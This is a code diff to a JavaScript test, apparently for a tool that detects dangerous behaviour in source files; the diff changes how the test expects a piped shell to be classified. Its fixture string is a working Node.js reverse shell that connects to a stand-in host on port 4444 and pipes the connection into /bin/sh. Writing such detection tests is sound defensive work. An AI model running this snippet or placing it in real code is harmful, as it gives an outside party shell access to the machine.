@@ -35,7 +35,11 @@ describe("what is sent over a connection that stands", () => {
     const { effects } = await readFiles({
       "index.js": `const c = new (require("net").Socket)(); const s = require("child_process").spawn("/bin/sh"); c.connect(4444, "a.example", () => { c.pipe(s.stdin); });`,
     });
-    assert.ok(effects.some(({ kind, via, traits }) => kind === "run" && via === "stdin" && traits.includes("piped")));
+    assert.ok(
+      effects.some(
+        ({ kind, via, traits }) => kind === "evaluate" && via.startsWith("stdin") && traits.includes("inline-code"),
+      ),
+    );
   });
 });
 
